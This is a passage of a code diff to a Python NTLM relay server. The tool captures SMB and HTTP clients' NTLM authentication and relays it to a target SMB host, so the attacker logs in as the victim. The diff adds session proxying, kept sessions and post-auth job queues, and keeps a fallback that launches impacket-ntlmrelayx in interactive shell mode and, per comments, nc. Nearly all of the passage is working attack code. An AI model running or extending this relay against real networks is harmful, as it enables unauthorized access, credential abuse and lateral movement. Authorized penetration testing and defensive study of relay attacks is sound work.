+                    if b'SMB 2.???' in dialects:
+                        connection.write(patch_ids(bytearray(self.templates.wildcard_negotiate), 0))
+                    elif b'SMB 2.002' in dialects:
+                        dialect = SMB2_DIALECT_202
+                        connection.write(patch_ids(self.templates.negotiate_for(SMB2_DIALECT_202), 0))
+                    else:
+                        self.logger.warning(f"[-] SMB1-only client {address[0]}, cannot relay")
+                        return
+                    await connection.drain()
+                    continue
+
+                if message[:4] != SMB2_MAGIC:
+                    return
+                header = SMB2Header(message)
+
+                if header.command == SMB2_NEGOTIATE:
+                    offered = negotiate_request_dialects(message)
+                    dialect = choose_dialect(offered)
+                    if dialect is None:
+                        self.logger.warning(f"[-] No common SMB2 dialect with {address[0]}")
+                        return
+                    if self.session_proxy:
+                        # A proxied client continues on the target connection, so it gets the target's dialect
+                        if relay_client is None:
+                            target, relay_client = await self._open_target(address[0])
+                            if relay_client is None:
+                                return
+                        if relay_client.dialect() in offered:
+                            dialect = relay_client.dialect()
+                    connection.write(patch_ids(self.templates.negotiate_for(dialect), header.message_id))
+                    timer.mark('negotiate')
+
+                elif header.command == SMB2_SESSION_SETUP:
+                    token = session_setup_request_token(message)
+                    ntlm = unwrap_ntlmssp(token)
+                    ntlm_type = message_type(ntlm) if ntlm is not None else None
+
+                    if ntlm_type == NTLM_NEGOTIATE and not challenged:
+                        self.logger.info("[+] NTLM Type 1 received from client")
+                        if relay_client is None:
+                            target, relay_client = await self._open_target(address[0])
+                            if relay_client is None:
+                                connection.write(patch_ids(bytearray(self.templates.access_denied),
+                                                           header.message_id, session_id))
+                                await connection.drain()
+                                return
+                        challenged = True
+                        challenge, server_challenge = await self._relay_type1(relay_client, ntlm, timer)
+                        if challenge is None:
+                            outcome = False
+                            connection.write(patch_ids(bytearray(self.templates.access_denied),
+                                                   header.message_id, session_id))
+                            await connection.drain()
+                            return
+                        session_id = relay_client.session_id
+                        blob = (neg_token_resp(challenge, NEG_STATE_ACCEPT_INCOMPLETE, supported_mech=True)
+                                if is_spnego(token) else challenge)
+                        connection.write(build_session_setup_response(
+                            blob, STATUS_MORE_PROCESSING_REQUIRED, header.message_id, session_id))
+                        timer.mark('type2_returned')
+
+                    elif ntlm_type == NTLM_AUTHENTICATE and challenged:
+                        auth, user, status = await self._relay_type3(relay_client, ntlm, target, address[0],
+                                                                     timer)
+                        released = True
+                        record, session = self._record_relay(address[0], connected_at, target, timer, auth, user,
+                                                             status, server_challenge, 'SMB')
+                        if SMBRelayClient.succeeded(status) and self._can_proxy(relay_client, dialect):
+                            self.logger.info(f"[+] Successfully authenticated to target {target.host} as {user}!")
+                            self._emit_session(session)
+                            await self._proxy_session(connection, relay_client, target, header.message_id,
+                                                      address, user)
+                            return
+                        connection.write(patch_ids(bytearray(self.templates.access_denied),
+                                               header.message_id, session_id))
+                        await connection.drain()
+                        self._after_auth(record, session, timer, auth, user, status, target, relay_client)
+                        return
+                    else:
+                        return
+                else:
+                    self.logger.debug(f"[*] Unexpected SMB2 command {header.command} from {address[0]}")
+                    return
+                await connection.drain()
         finally:
-            self.logger.debug("[*] Impacket output monitoring thread finished.")
-            # Ensure the process doesn't hang if we break early or error out
-            try:
-                process.stdout.close()
-            except:
-                pass
+            await self._end_relay(address[0], connected_at, timer, record, user, target, relay_client,
+                                  released, outcome)
 
+    async def _relay_http(self, connection: FramedConnection, address, connected_at):
+        """
+        Relay the NTLM exchange of an HTTP client to the SMB target.
 
-    def _handle_relay_authentication(self, client_socket, address):
-        """Handle the NTLM relay authentication process"""
-        target_conn = None
-        client_smb_packet = None
-        target_smb_packet = None
+        A request without a token gets a 401 asking for NTLM. The Type 1 of
+        an NTLM or Negotiate Authorization header is relayed and the target's
+        Type 2 returned in a 401 on the same keep-alive connection, then the
+        Type 3 is relayed. The client gets 403 Forbidden whatever the target
+        answered, as an SMB client gets STATUS_ACCESS_DENIED; the session is
+        never proxied, an HTTP client cannot continue on an SMB session.
+        """
+        relay_client = None
+        target = None
+        user = None
+        server_challenge = None
+        timer = RelayPhaseTimer(connected_at)
+        record = None
+        outcome = None
+        released = False
         try:
-            self.logger.debug(f"[*] Handling connection from {address[0]}")
-            # Establish connection object for target
-            target_conn = self._connect_to_target()
-            if not target_conn:
-                self.logger.debug(f"[*] Failed to create target connection object for {address[0]}")
-                return
+            while self.running:
+                head = await self._read_http_head(connection)
+                if head.content_length:
+                    await asyncio.wait_for(connection.discard(head.content_length), self.client_timeout)
+                token = decode_ntlm_token(head.authorization)
+                ntlm = unwrap_ntlmssp(token) if token else None
+                ntlm_type = message_type(ntlm) if ntlm is not None else None
 
-            # --- Phase 1: SMB Negotiation ---
-            try:
-                client_socket.settimeout(10)
-                client_smb_negotiate_data = client_socket.recv(4096)
-                if not client_smb_negotiate_data:
-                    self.logger.debug(f"[*] Client {address[0]} disconnected after initial connection.")
-                    return
-                self.logger.debug(f"[*] Received initial SMB Negotiate Request from {address[0]}")
+                if ntlm_type is None:
+                    # No (usable) NTLM token yet: ask the client to start the exchange
+                    connection.write(http_response(b'401 Unauthorized', head.keep_alive))
+                    await connection.drain()
+                    timer.mark('negotiate')
+                    if not head.keep_alive:
+                        return
+                    continue
 
-                # Let's modify our approach to use impacket-ntlmrelayx as a subprocess for more reliable relay
-                # This is much more reliable than trying to implement all the SMB protocol details manually
-                self.logger.info(f"[*] Falling back to impacket-ntlmrelayx for more reliable relay")
-                try:
-                    # Check if client is the same as target (prevent self-relay)
-                    if address[0] == self.target:
-                        self.logger.warning(f"[-] Client {address[0]} is same as target - cannot relay to self!")
+                # Answer in the scheme the client used, NTLM or Negotiate
+                scheme = bytes(head.authorization).split(b' ', 1)[0]
+                if ntlm_type == NTLM_NEGOTIATE and relay_client is None:
+                    self.logger.info(f"[+] NTLM Type 1 received from HTTP client {address[0]}")
+                    target, relay_client = await self._open_target(address[0])
+                    if relay_client is None:
+                        connection.write(http_response(b'403 Forbidden', False, b''))
+                        await connection.drain()
+                        return
+                    challenge, server_challenge = await self._relay_type1(relay_client, ntlm, timer)
+                    if challenge is None:
+                        outcome = False
+                        connection.write(http_response(b'403 Forbidden', False, b''))
+                        await connection.drain()
                         return
-                        
-                    # Create a targets.txt file with the target IP
-                    with open('targets.txt', 'w') as f:
-                        f.write(f"{self.target}")
-                    
-                    # Close our current socket to free up port 445
-                    self.logger.debug(f"[*] Closing relay server to hand over to impacket-ntlmrelayx")
-                    self.stop() # Stop the primary listener
-                    
-                    # Launch impacket-ntlmrelayx as a subprocess
-                    cmd = ["impacket-ntlmrelayx", "-tf", "targets.txt", "-smb2support", "-i"]
-                    self.logger.info(f"[*] Executing: {' '.join(cmd)}")
-
-                    # Run impacket, capturing stdout
-                    impacket_process = subprocess.Popen(
-                        cmd,
-                        stdout=subprocess.PIPE,
-                        stderr=subprocess.STDOUT, # Redirect stderr to stdout
-                        bufsize=1, # Line buffered
-                        universal_newlines=False # Read as bytes for io.TextIOWrapper
-                    )
-
-                    # Start a thread to monitor the output
-                    monitor_thread = threading.Thread(
-                        target=self._monitor_impacket_output,
-                        args=(impacket_process,),
-                        daemon=True # Allow script to exit even if thread is running
-                    )
-                    monitor_thread.start()
-
-                    # The handler thread's job is done here.
-                    # It launched impacket and the monitor thread.
-                    # The monitor thread will launch nc when ready.
-                    # We don't wait for impacket_process here, as it runs indefinitely.
-                    self.logger.debug("[*] Handed off to impacket-ntlmrelayx and monitor thread.")
-                    return # Exit this handler thread
+                    blob = (neg_token_resp(challenge, NEG_STATE_ACCEPT_INCOMPLETE, supported_mech=True)
+                            if is_spnego(token) else challenge)
+                    authenticate = (b'WWW-Authenticate: ' + scheme + b' ' +
+                                    binascii.b2a_base64(blob, newline=False) + b'\r\n')
+                    connection.write(http_response(b'401 Unauthorized', True, authenticate))
+                    await connection.drain()
+                    timer.mark('type2_returned')
 
-                except Exception as e:
-                    self.logger.error(f"[-] Failed to launch impacket-ntlmrelayx: {e}", exc_info=True)
-                    # If fallback fails, maybe restart the original server? Or just exit.
-                    # For now, just log the error and exit the handler thread.
-                    # Consider attempting to restart the server if needed.
+                elif ntlm_type == NTLM_AUTHENTICATE and timer.reached('type2_returned'):
+                    auth, user, status = await self._relay_type3(relay_client, ntlm, target, address[0], timer)
+                    released = True
+                    record, session = self._record_relay(address[0], connected_at, target, timer, auth, user,
+                                                         status, server_challenge, 'HTTP')
+                    connection.write(http_response(b'403 Forbidden', False, b''))
+                    await connection.drain()
+                    self._after_auth(record, session, timer, auth, user, status, target, relay_client)
+                    return
+                else:
                     return
-            except socket.timeout:
-                self.logger.debug(f"[*] Socket timed out during SMB negotiation phase with {address[0]}.")
-                return
-            except Exception as e:
-                self.logger.error(f"[-] Error during SMB negotiation phase with {address[0]}: {e}", exc_info=True)
-                return
-            finally:
-                # Only reset timeout if socket is still valid
-                try:
-                    if self.running and client_socket and client_socket.fileno() >= 0:
-                        client_socket.settimeout(None)
-                except (socket.error, OSError):
-                    pass  # Socket already closed, ignore
-            # --- End Phase 1 ---
-
-            # --- Phase 2: NTLM Authentication Relay ---
-            # This part is now effectively unreachable if the impacket fallback succeeds
-            # because the function returns after launching impacket.
-            # Keep it for potential future use or if the fallback logic changes.
-            self.logger.debug(f"[*] Receiving NTLM Type 1 (Session Setup) from {address[0]}")
-            client_session_setup_type1_data = client_socket.recv(4096)
-            if not client_session_setup_type1_data:
-                 self.logger.debug(f"[*] Client {address[0]} disconnected before sending NTLM Type 1.")
-                 return
-
-            # Extract NTLM Type 1 blob
-            client_smb_packet = SMB2Packet(client_session_setup_type1_data)
-            if client_smb_packet['Command'] != SMB2SessionSetup.COMMAND:
-                 self.logger.error(f"[-] Expected SMB2 Session Setup from client {address[0]}, got command {client_smb_packet['Command']}")
-                 return
-            session_setup_req = SMB2SessionSetup(client_smb_packet['Data'])
-            ntlm_negotiate = NTLMAuthNegotiate()
-            ntlm_negotiate.fromString(session_setup_req['Buffer'])
-            self.logger.info("[+] NTLM Type 1 received from client")
-
-            # Relay NTLM Type 1 to target using sessionSetup
-            self.logger.debug(f"[*] Relaying NTLM Type 1 to target {self.target}")
-            target_session_setup_resp_data = target_conn.sessionSetup(ntlm_negotiate)
-            if not target_session_setup_resp_data:
-                 self.logger.error(f"[-] Target {self.target} did not send NTLM Type 2 challenge.")
-                 return
-
-            # Extract NTLM Type 2 blob
-            target_smb_packet = SMB2Packet(target_session_setup_resp_data)
-            if target_smb_packet['Status'] != 0x0103: # STATUS_MORE_PROCESSING_REQUIRED
-                 self.logger.error(f"[-] Target {self.target} did not return STATUS_MORE_PROCESSING_REQUIRED. Status: {target_smb_packet['Status']:#x}")
-                 client_socket.send(target_session_setup_resp_data)
-                 return
-            session_setup_resp = SMB2SessionSetup(target_smb_packet['Data'])
-            ntlm_challenge = NTLMAuthChallenge()
-            ntlm_challenge.fromString(session_setup_resp['Buffer'])
-            self.logger.info("[+] Received Type 2 challenge from target")
-
-            # Send target's challenge response (entire SMB packet) back to client
-            self.logger.debug(f"[*] Sending target's NTLM Type 2 challenge to client {address[0]}")
-            client_socket.send(target_session_setup_resp_data)
-
-            # Receive NTLM Type 3 from client
-            self.logger.debug(f"[*] Receiving NTLM Type 3 (Session Setup Auth) from {address[0]}")
-            client_session_setup_type3_data = client_socket.recv(4096)
-            if not client_session_setup_type3_data:
-                 self.logger.debug(f"[*] Client {address[0]} disconnected before sending NTLM Type 3.")
-                 return
-
-            # Extract NTLM Type 3 blob
-            client_smb_packet = SMB2Packet(client_session_setup_type3_data)
-            if client_smb_packet['Command'] != SMB2SessionSetup.COMMAND:
-                 self.logger.error(f"[-] Expected SMB2 Session Setup Auth from client {address[0]}, got command {client_smb_packet['Command']}")
-                 return
-            session_setup_req_auth = SMB2SessionSetup(client_smb_packet['Data'])
-            ntlm_response = NTLMAuthChallengeResponse()
-            ntlm_response.fromString(session_setup_req_auth['Buffer'])
-            self.logger.info("[+] Got Type 3 auth response from client")
-
-            # Relay NTLM Type 3 to target
-            self.logger.debug(f"[*] Relaying NTLM Type 3 to target {self.target}")
-            target_final_resp_data = target_conn.sessionSetup(ntlmChallengeResponse=ntlm_response)
-            if not target_final_resp_data:
-                 self.logger.error(f"[-] Target {self.target} did not send final authentication response.")
-                 return
-
-            # Check target's final response status
-            target_smb_packet = SMB2Packet(target_final_resp_data)
-            if target_smb_packet['Status'] == 0: # STATUS_SUCCESS
-                self.logger.info("[+] Successfully authenticated to target!")
-                self.logger.debug(f"[*] Sending SUCCESS status to client {address[0]}")
-                client_socket.send(target_final_resp_data)
-                self._execute_commands(target_conn)
-            else:
-                self.logger.error(f"[-] Authentication to target failed. Status: {target_smb_packet['Status']:#x}")
-                self.logger.debug(f"[*] Sending FAILURE status to client {address[0]}")
-                client_socket.send(target_final_resp_data)
-            # --- End Phase 2 ---
-
-        except ConnectionResetError:
-             self.logger.warning(f"[*] Connection reset by {address[0]} during relay.")
-        except socket.timeout:
-             self.logger.warning(f"[*] Socket timed out during relay with {address[0]}.")
-        except Exception as e:
-            self.logger.error(f"[-] Relay authentication failed: {e}", exc_info=True)
         finally:
-            # Close target connection if it exists
-            if target_conn:
-                try:
-                    target_conn.close()
-                except Exception as disconnect_e:
-                    self.logger.debug(f"Error closing target connection: {disconnect_e}")
-
-            # Remove client from list and close socket
-            with self.lock:
-                if client_socket in self.clients:
-                    self.clients.remove(client_socket)
-            
-            # Only try to close if socket is still valid
-            try:
-                if client_socket and client_socket.fileno() >= 0:
-                    try:
-                        client_socket.shutdown(socket.SHUT_RDWR)
-                    except:
-                        pass
-                    client_socket.close()
-                    self.logger.debug(f"[*] Closed connection for {address[0]}")
-            except (socket.error, OSError):
-                pass  # Socket already closed, ignore
-
-    def _create_negotiate_response(self, dialect):
-        """Create a proper SMB negotiate response based on the dialect"""
+            await self._end_relay(address[0], connected_at, timer, record, user, target, relay_client,
+                                  released, outcome)
+
+    async def _read_http_head(self, connection: FramedConnection):
         try:
-            # This is a simplified response - actual implementation would be more complex
-            # For now, just return a basic SMB2 negotiate response that should satisfy most clients
-            
-            # Simplified SMB2 NEGOTIATE Response
-            response = b'\x00\x00\x00\x9c' # NetBIOS session service
-            response += b'\xfe\x53\x4d\x42' # SMB2 protocol ID
-            response += b'\x40\x00'  # Structure size
-            response += b'\x00\x00'  # Credit charge
-            response += b'\x00\x00\x00\x00' # Status (SUCCESS)
-            response += b'\x01\x00'  # Command: NEGOTIATE
-            response += b'\x01\x00'  # Credits granted
-            response += b'\x00\x00\x00\x00' # Flags
-            response += b'\x00\x00\x00\x00' # Next command
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00' # Message ID
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00' # Reserved/Process ID
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00' # Tree ID
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00' # Session ID
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00' # Signature
-            
-            # Negotiate Response body
-            response += b'\x41\x00'  # Structure size
-            response += b'\x01\x00'  # Security mode (signing enabled)
-            response += b'\x01\x03'  # Dialect selected (0x0311 = SMB 3.1.1)
-            response += b'\x00\x00'  # Reserved
-            response += b'\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00' # Server GUID
-            response += b'\x7f\x00\x00\x00' # Capabilities
-            response += b'\x00\x00\x10\x00' # Max transaction size
-            response += b'\x00\x00\x10\x00' # Max read size
-            response += b'\x00\x00\x10\x00' # Max write size
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00' # System time
-            response += b'\x00\x00\x00\x00\x00\x00\x00\x00' # Server start time
-            response += b'\x60\x00'  # Security buffer offset
-            response += b'\x20\x00'  # Security buffer length
-            
-            # Security buffer - very basic SPNEGO/NTLM OID
-            response += b'\x60\x48\x06\x06\x2b\x06\x01\x05\x05\x02\xa0\x3e\x30\x3c\xa0\x0e\x30\x0c\x06\x0a\x2b\x06\x01\x04\x01\x82\x37\x02\x02\x0a\xa2\x2a\x04\x28\x4e\x54\x4c\x4d\x53\x53\x50\x00'
-            
-            return response
-            
-        except Exception as e:
-            self.logger.error(f"[-] Error creating negotiate response: {e}", exc_info=True)
-            # In case of error, return a minimal response that might work
-            return b'\x00\x00\x00\x35\xff\x53\x4d\x42\x72\x00\x00\x00\x00\x98\x53\xc8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00\x00\x0c\x00\x02\x4e\x54\x20\x4c\x4d\x20\x30\x2e\x31\x32\x00'
+            block = await asyncio.wait_for(connection.read_until(b'\r\n\r\n', MAX_HTTP_HEAD),
+                                           self.client_timeout)
+        except asyncio.LimitOverrunError:
+            raise ConnectionError("HTTP header block too large")
+        try:
+            return parse_request_head(bytes(block))
+        except ValueError as e:
+            raise ConnectionError(f"Bad HTTP request: {e}")
 
-    def _execute_commands(self, target_conn):
-        """Execute commands on successful authentication"""
+    async def _relay_type1(self, relay_client: SMBRelayClient, ntlm, timer: RelayPhaseTimer):
+        """Relay a client's Type 1; returns the target's Type 2 and its server challenge, (None, None) if refused"""
+        timer.mark('type1_relayed')
+        challenge = await self._target_call(relay_client.send_negotiate, bytes(ntlm))
+        if challenge is None:
+            return None, None
+        self.logger.info("[+] Received Type 2 challenge from target")
         try:
-            self.logger.info("[+] Listing shares on target:")
-            shares = target_conn.listShares()
-            for share in shares:
-                self.logger.info(f"    - {share['shi1_netname']}")
+            server_challenge = parse_challenge_message(challenge)['server_challenge']
+        except ValueError:
+            server_challenge = None
+        return challenge, server_challenge
+
+    async def _relay_type3(self, relay_client: SMBRelayClient, ntlm, target: ScopeTarget, client_ip,
+                           timer: RelayPhaseTimer):
+        """Relay a client's Type 3 and release the scoped target; returns the parsed message, user and status"""
+        auth = parse_authenticate_message(ntlm)
+        user = f"{auth['domain']}\\{auth['username']}"
+        self.logger.info(f"[+] Got Type 3 auth response from client ({user})")
+        if self.scheduler:
+            self.scheduler.note_user(client_ip, user)
+        timer.mark('type3_relayed')
+        status = await self._target_call(relay_client.send_auth, bytes(ntlm))
+        timer.mark('auth_status')
+        if self.scheduler:
+            # The target answered; free it for the next authentication before the follow-up
+            self.scheduler.release(target, SMBRelayClient.succeeded(status), user)
+        return auth, user, status
+
+    def _record_relay(self, client_ip, connected_at, target: ScopeTarget, timer: RelayPhaseTimer, auth, user,
+                      status, server_challenge, protocol):
+        """Timing record and relay_session record of a relay the target answered"""
+        outcome = 'SUCCEED' if SMBRelayClient.succeeded(status) else f"{status:#x}"
+        record = self._record_timing(client_ip, 'inprocess', connected_at, outcome, user, target, timer)
+        return record, self._session_record(record, target, auth, server_challenge, status, protocol)
+
+    def _after_auth(self, record, session, timer: RelayPhaseTimer, auth, user, status, target: ScopeTarget,
+                    relay_client: SMBRelayClient):
+        """Keep a successful relay's session and start its post-auth actions; emit the session record"""
+        if not SMBRelayClient.succeeded(status):
+            self.logger.error(f"[-] Authentication to target failed. Status: {status:#x}")
+            self._emit_session(session)
+            return
+        self.logger.info(f"[+] Successfully authenticated to target {target.host} as {user}!")
+        if self.session_registry:
+            self.session_registry.add(auth['username'], auth['domain'], target.host,
+                                      relay_client.detach_session())
+        if not self.post_auth.actions:
+            self._emit_session(session)
+            return
+        if self.session_registry:
+            # Kept sessions run the actions as a job, in turn with other jobs on the session
+            job = self.submit_job(auth['username'], auth['domain'],
+                                  lambda conn: self.post_auth.run(conn, record['target'], user), target.host)
+        else:
+            # The pipeline logs the session off when its actions are done; this relay ends here
+            job = self.post_auth.submit(relay_client.detach_session(), record['target'], user)
+        job.add_done_callback(lambda _: self._record_post_auth(record, timer, session))
+
+    async def _end_relay(self, client_ip, connected_at, timer: RelayPhaseTimer, record, user, target: ScopeTarget,
+                         relay_client: Optional[SMBRelayClient], released, outcome):
+        """Close the target leg of a relay, recording it if it stopped between Type 1 and the target's answer"""
+        if record is None and timer.reached('type1_relayed'):
+            # The target leg was started: keep the phases so a stalled leg shows up in the stats
+            self._record_timing(client_ip, 'inprocess', connected_at, 'INCOMPLETE', user, target, timer)
+        if relay_client:
+            try:
+                await self._target_call(relay_client.close)
+            except RuntimeError:
+                # Executor already shut down
+                relay_client.close()
+            self.relay_slots.release()
+        if self.scheduler and target and not released:
+            self.scheduler.release(target, outcome)
+
+    def _can_proxy(self, relay_client: SMBRelayClient, dialect: int) -> bool:
+        if not self.session_proxy:
+            return False
+        if dialect != relay_client.dialect():
+            # The client would keep talking the dialect it negotiated with us
+            self.logger.warning(f"[-] Client dialect {dialect:#x} differs from the target's "
+                                f"{relay_client.dialect():#x}, not proxying the session")
+            return False
+        return True
+
+    async def _proxy_session(self, connection: FramedConnection, relay_client: SMBRelayClient,
+                             target: ScopeTarget, message_id: int, address, user: str):
+        """Give the client the target's SESSION_SETUP answer and proxy the session from there on"""
+        answer = patch_ids(bytearray(netbios_frame(relay_client.auth_response)), message_id)
+        client_socket, unread = await connection.detach()
+        target_socket = relay_client.detach_socket()
+        await self._target_call(self.session_proxy.proxy, client_socket, target_socket, address,
+                                (target.host, target.port), user, bytes(answer), unread)
+
+    def submit_job(self, user, domain, job, target=None):
+        """Run job(SMBConnection) on the kept session of domain\\user, queued until one is relayed"""
+        if not self.session_registry:
+            raise RuntimeError("Session keeping is disabled (keep_sessions=False)")
+        return self.session_registry.submit(user, domain, target or self.target, job)
+
+    def get_session_stats(self):
+        """Live kept sessions and keep-alive/expiry counters"""
+        return self.session_registry.get_stats() if self.session_registry else {}
+
+    def get_scheduler_stats(self):
+        """Per-target relay counters, concurrency and backoff of the scope"""
+        return self.scheduler.get_stats() if self.scheduler else {}
+
+    def get_post_auth_stats(self):
+        """Post-auth sessions handled or waiting and action results by status"""
+        return self.post_auth.get_stats()
+
+    def get_proxy_stats(self):
+        """Byte counters of the proxied sessions"""
+        return self.session_proxy.get_stats() if self.session_proxy else {}
+
+    async def _relay_subprocess(self, connection, address, connected_at):
+        """Hand the relay over to impacket-ntlmrelayx (compatibility mode)"""
+        await self._read_frame(connection)
+        self.logger.debug(f"[*] Received initial SMB Negotiate Request from {address[0]}")
+        # Only the first client triggers the hand-over; ntlmrelayx takes the port afterwards
+        if self.handed_over:
+            return
+        self.handed_over = True
+        self.logger.info(f"[*] Handing the relay over to impacket-ntlmrelayx")
+        try:
+            # Create a targets.txt file with the target IP, or the whole scope
+            with open('targets.txt', 'w') as f:
+                if self.scheduler:
+                    f.write('\n'.join(f"smb://{host}:{port}" for host, port in self.scheduler.targets))
+                else:
+                    f.write(f"smb://{self.target}:{self.target_port}")
+
+            # Close our listener to free up port 445; open relays are left alone
+            self.logger.debug(f"[*] Closing relay server to hand over to impacket-ntlmrelayx")
+            self.server.close()
+            self.running = False
+
+            # Launch impacket-ntlmrelayx as a subprocess
+            # Distribution packages ship impacket-ntlmrelayx, pip installs ntlmrelayx.py
+            executable = (shutil.which("impacket-ntlmrelayx") or shutil.which("ntlmrelayx.py")
+                          or "impacket-ntlmrelayx")
+            cmd = [executable, "-tf", "targets.txt", "-smb2support", "-i"]
+            self.logger.info(f"[*] Executing: {' '.join(cmd)}")
+
+            # Run impacket, capturing stdout and stderr
+            impacket_process = subprocess.Popen(
+                cmd,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                env=dict(os.environ, PYTHONUNBUFFERED='1') # Lines reach the monitor as they are printed
+            )
+
+            # The shared monitor drains both pipes and launches nc once the shell is up; impacket runs on
+            on_event = functools.partial(self._on_impacket_event, address[0], connected_at)
+            ProcessOutputMonitor.shared().watch(impacket_process, IMPACKET_MARKERS, on_event, name='impacket')
+            self.logger.debug("[*] Handed off to impacket-ntlmrelayx")
+
         except Exception as e:
-            self.logger.error(f"[-] Failed to execute commands: {e}")
+            self.logger.error(f"[-] Failed to launch impacket-ntlmrelayx: {e}", exc_info=True)
+
+    async def _shutdown(self):
+        for server in self.servers:
+            server.close()
+        tasks = list(self.clients)
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
 
     def stop(self):
         """Stop the NTLM Relay Server"""
         # Add check to prevent duplicate stop logs/actions if already stopped
-        if not self.running: 
+        if not self.loop_thread and not self.server_socket and not self.target_pool:
             return
 
         self.running = False
-        
-        with self.lock:
-            for client in self.clients:
+
+        if self.loop_thread:
+            # Close the listener and cancel open relays on the loop, then stop it
+            if self.loop_thread.is_running():
                 try:
-                    client.close()
-                except:
-                    pass
-            self.clients.clear()
-        
+                    self.loop_thread.run(self._shutdown(), timeout=5)
+                except Exception as e:
+                    self.logger.debug(f"Error during relay shutdown: {e}")
+                self.loop_thread.stop()
+            self.loop_thread = None
+        self.server = None
+        self.servers = []
+
+        if self.target_pool:
+            self.target_pool.stop()
+            self.target_pool = None
+
+        if self.session_proxy:
+            self.session_proxy.stop()
+
+        if self.session_registry:
+            self.session_registry.stop()
+
+        self.post_auth.stop()
+
+        if self.executor:
+            # Blocked impacket calls end on their own socket timeout
+            self.executor.shutdown(wait=False, cancel_futures=True)
+            self.executor = None
+
+        for sock in self.listener_sockets:
+            sock.close()
+        self.listener_sockets = []
         if self.server_socket:
-            try:
-                self.server_socket.shutdown(socket.SHUT_RDWR)
-            except:
-                pass
-            finally:
-                self.server_socket.close()
-                self.server_socket = None
-
-        if self.server_thread and self.server_thread.is_alive():
-            self.server_thread.join(timeout=1.0)
+            self.server_socket.close()
+            self.server_socket = None
             
-        self.logger.info("[*] NTLM Relay Server stopped")
\ No newline at end of file
+        self.logger.info("[*] NTLM Relay Server stopped")